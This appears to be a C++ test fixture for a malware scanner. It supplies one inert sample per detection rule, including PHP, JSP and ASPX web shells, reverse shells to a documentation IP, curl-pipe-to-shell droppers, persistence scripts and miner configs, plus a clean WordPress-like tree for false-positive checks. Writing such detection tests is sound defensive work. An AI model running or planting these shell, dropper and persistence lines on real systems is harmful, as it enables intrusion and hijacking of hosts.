#pragma once
// Samples for the shipped malware rules, written for the tests: each is inert text (addresses are
// documentation ranges, keys are made up) that carries the construct its rule looks for. The EICAR
// string is assembled at run time so no source file is itself the test file. And a clean,
// WordPress-like PHP tree that must stay silent.

#include <string>
#include <utility>
#include <vector>

namespace rampart::agent::scan::testing {

inline std::string Eicar() {
  std::string s = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
  s += "EICAR-STANDARD-ANTIVIRUS";
  s += "-TEST-FILE!$H+H*";
  return s;
}

struct Sample {
  std::string rule;  // the rule that must fire
  std::string name;  // file name
  std::string text;
};

inline std::vector<Sample> RuleSamples() {
  const std::string elf(
      "\x7f"
      "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
      16);
  return {
      {"php_webshell_eval_request", "upload.php",
       "<?php\n$a = 1;\nif (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); }\n"},
      {"php_webshell_obfuscated_eval", "cache.php",
       "<?php\n@eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA')));\n"},
      {"php_webshell_china_chopper", "x.php", "<?php @eval($_POST['pass']);?>"},
      {"php_webshell_known_family", "wso.php",
       "<?php\n$default_action = 'FilesMan';\n$wso_version = '2.5';\nif ($_POST['p1'] == 'x') "
       "{}\n"},
      {"jsp_webshell_cmd_exec", "cmd.jsp",
       "<%@ page import=\"java.io.*\" %>\n<% Process p = "
       "Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n"},
      {"jsp_webshell_class_loader", "mem.jsp",
       "<%@ page import=\"javax.crypto.*\" %>\n<%! class U extends ClassLoader { Class g(byte[] b) "
       "{ return super.defineClass(b, 0, b.length); } } %>\n<% Cipher c = "
       "Cipher.getInstance(\"AES\"); byte[] d = c.doFinal(new "
       "sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())); %>\n"},
      {"asp_webshell_eval_request", "x.asp", "<%eval request(\"pass\")%>"},
      {"aspx_webshell_process_start", "run.aspx",
       "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load() {\n"
       "var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + "
       "Request.Form[\"c\"]);\nSystem.Diagnostics.Process.Start(psi);\n}\n</script>\n"},
      {"miner_stratum_pool_url", "start.sh",
       "#!/bin/sh\n./worker -o stratum+tcp://pool.example.invalid:3333 -u WALLET -p x\n"},
      {"miner_xmrig_config", "config.json",
       "{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"randomx\": { \"mode\": \"auto\" },\n"
       "  \"pools\": [ { \"url\": \"pool.example.invalid:443\", \"algo\": \"rx/0\" } ]\n}\n"},
      {"miner_binary_strings", "kworkerd",
       [&elf] {
         std::string bin = elf + std::string(64, '\0');
         for (const char* s :
              {"XMRig/6.20", "--donate-level", "randomx", "mining.subscribe", "mining.authorize"}) {
           bin += s;
           bin += '\0';
         }
         return bin;
       }()},
      {"revshell_bash_dev_tcp", "r.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n"},
      {"revshell_netcat_exec", "nc.sh", "#!/bin/sh\nnc -e /bin/sh 192.0.2.10 4444\n"},
      {"revshell_script_socket_pty", "r.py",
       "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
       "s.connect((\"192.0.2.10\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\n"
       "os.dup2(s.fileno(),2)\npty.spawn(\"/bin/sh\")\n"},
      {"dropper_download_pipe_shell", "update.sh",
       "#!/bin/sh\ncurl -fsSL http://192.0.2.7:8080/init.sh | sh\n"},
      {"dropper_download_chmod_exec", "get.sh",
       "#!/bin/sh\nwget -q http://dl.example.invalid/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k\n"},
      {"persist_ld_so_preload_writer", "inst.sh",
       "#!/bin/sh\necho /usr/local/lib/libprocesshider.so > /etc/ld.so.preload\n"},
      {"persist_authorized_keys_writer", "key.sh",
       "#!/bin/sh\necho \"ssh-rsa "
       "AAAAB3NzaC1yc2EAAAADAQABAAABAQDexampleexampleexampleexampleexampleexampleexample "
       "x@y\" >> /root/.ssh/authorized_keys\n"},
      {"persist_cron_dropper", "cron.sh",
       "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s "
       "http://dl.example.invalid/a.sh | sh\") | crontab -\n"},
      {"persist_systemd_dropper", "svc.sh",
       "#!/bin/sh\ncat > /etc/systemd/system/dbus-helper.service <<EOF\n[Service]\n"
       "ExecStart=/dev/shm/.helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\n"
       "systemctl enable dbus-helper.service\n"},
      {"eicar_test_file", "eicar.com", Eicar()},
  };
}

// A small tree shaped like a WordPress install: legitimate uses of request data, base64,
// preg_replace_callback, exec of fixed commands, shell scripts with curl, JSON configs.
inline std::vector<std::pair<std::string, std::string>> CleanWebTree() {
  std::vector<std::pair<std::string, std::string>> files = {
      {"wp-config.php",
       "<?php\ndefine('DB_NAME', 'wordpress');\ndefine('AUTH_KEY', 'put your unique phrase "
       "here');\n$table_prefix = 'wp_';\nif (!defined('ABSPATH')) { define('ABSPATH', __DIR__ . "
       "'/'); }\nrequire_once ABSPATH . 'wp-settings.php';\n"},
      {"wp-login.php",
       "<?php\n$action = isset($_REQUEST['action']) ? sanitize_key($_REQUEST['action']) : "
       "'login';\n$user_login = wp_unslash($_POST['log'] ?? '');\n$redirect = "
       "esc_url_raw($_GET['redirect_to'] ?? '');\nif ($action === 'logout') { wp_logout(); }\n"},
      {"wp-includes/formatting.php",
       "<?php\nfunction wp_encode_data($d) { return base64_encode(serialize($d)); }\n"
       "function wp_decode_data($s) { return unserialize(base64_decode($s)); }\n"
       "function wp_replace($t) { return preg_replace_callback('/\\[(\\w+)\\]/', function ($m) "
       "{ return strtoupper($m[1]); }, $t); }\n$x = preg_replace('/\\s+/', ' ', $t);\n"},
      {"wp-includes/class-wp-http.php",
       "<?php\nclass WP_Http {\n  public function request($url, $args = array()) {\n    $r = "
       "wp_parse_args($args);\n    return $this->_dispatch_request($url, $r);\n  }\n}\n"},
      {"wp-admin/includes/file.php",
       "<?php\nfunction get_filesystem_method() {\n  $temp = get_temp_dir();\n  if "
       "(function_exists('exec')) { exec('df -h ' . escapeshellarg($temp), $out); }\n  return "
       "'direct';\n}\n// Never eval() user input: see https://developer.wordpress.org/\n"},
      {"wp-admin/admin-ajax.php",
       "<?php\n$action = $_REQUEST['action'] ?? '';\nif (has_action('wp_ajax_' . $action)) { "
       "do_action('wp_ajax_' . sanitize_text_field($action)); }\nwp_die('0', 400);\n"},
      {"wp-content/themes/twenty/functions.php",
       "<?php\nadd_action('wp_enqueue_scripts', function () { wp_enqueue_style('twenty', "
       "get_stylesheet_uri()); });\n$opts = json_decode(file_get_contents(__DIR__ . "
       "'/theme.json'), true);\n"},
      {"wp-content/themes/twenty/theme.json",
       "{ \"version\": 2, \"settings\": { \"color\": { \"palette\": [] } } }\n"},
      {"wp-content/plugins/cache/advanced-cache.php",
       "<?php\n$key = md5($_SERVER['REQUEST_URI']);\n$file = WP_CONTENT_DIR . '/cache/' . $key;\n"
       "if (is_readable($file)) { readfile($file); exit; }\n"},
      {"wp-content/plugins/backup/backup.sh",
       "#!/bin/sh\n# Nightly backup\ntar czf /var/backups/site.tgz /var/www/html\ncurl -fsS -o "
       "/dev/null https://hc-ping.example.com/uuid\n"},
      {"wp-content/plugins/backup/install.sh",
       "#!/bin/sh\n# Installs the CLI\ncurl -O https://raw.githubusercontent.com/wp-cli/builds/"
       "gh-pages/phar/wp-cli.phar\nchmod +x wp-cli.phar\nmv wp-cli.phar /usr/local/bin/wp\n"},
      {"index.php",
       "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n"},
      {"wp-includes/js/jquery/jquery.min.js",
       "/*! jQuery v3.7.1 */\n!function(e,t){\"use strict\";\"object\"==typeof "
       "module?module.exports="
       "t(e):t(e)}(this,function(e){var t=[];return t.eval=function(s){return s}});\n"},
      {"xmlrpc.php",
       "<?php\ndefine('XMLRPC_REQUEST', true);\n$HTTP_RAW_POST_DATA = file_get_contents('php://"
       "input');\ninclude __DIR__ . '/wp-load.php';\n"},
  };
  return files;
}

}  // namespace rampart::agent::scan::testing
